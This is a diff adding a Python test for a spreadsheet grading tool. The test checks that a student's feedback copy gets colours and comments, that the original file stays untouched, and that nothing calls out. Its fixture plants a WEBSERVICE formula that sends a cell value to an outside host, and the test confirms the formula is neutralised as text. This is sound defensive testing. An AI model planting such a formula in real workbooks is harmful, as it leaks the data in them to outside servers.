@@ -1,0 +1,28 @@
+"""What a student gets back: a copy in colours, with comments; their own file stays as it is, and nothing calls out."""
+
+from collections.abc import Mapping
+from pathlib import Path
+
+from openpyxl import load_workbook
+
+from sheetnet import classroom
+from tests.marking.conftest import Task
+from tests.marking.submissions import hand_in, put
+
+
+def test_the_copy_has_colours_and_comments_and_calls_nothing(tasks: Mapping[str, Task], tmp_path: Path) -> None:
+    task = tasks["xor"]
+    edit = put({"Calc!J6": "=H6-Data!F6", "Calc!J7": None, "Calc!A20": '=WEBSERVICE("http://example.org/"&J6)'})
+    path = hand_in(task.exercise, tmp_path / "anna.xlsx", task.formulas, edit)
+    before = path.read_bytes()
+    (tmp_path / "back").mkdir()
+
+    classroom.grade(path, str(task.key), feedback=str(tmp_path / "back"))
+
+    sheet = load_workbook(tmp_path / "back" / "anna.xlsx")["Calc"]
+    colours = [sheet[cell].fill.fgColor.rgb[2:] for cell in ("J6", "J7", "J8", "K6")]
+    assert colours == ["F8C9C2", "E6E6E6", "CFE8CF", "DCEAF7"]
+    assert "the slope σ′ of the activation is left out" in sheet["J6"].comment.text
+    assert sheet["J8"].comment is None
+    assert sheet["A20"].data_type == "s"
+    assert path.read_bytes() == before
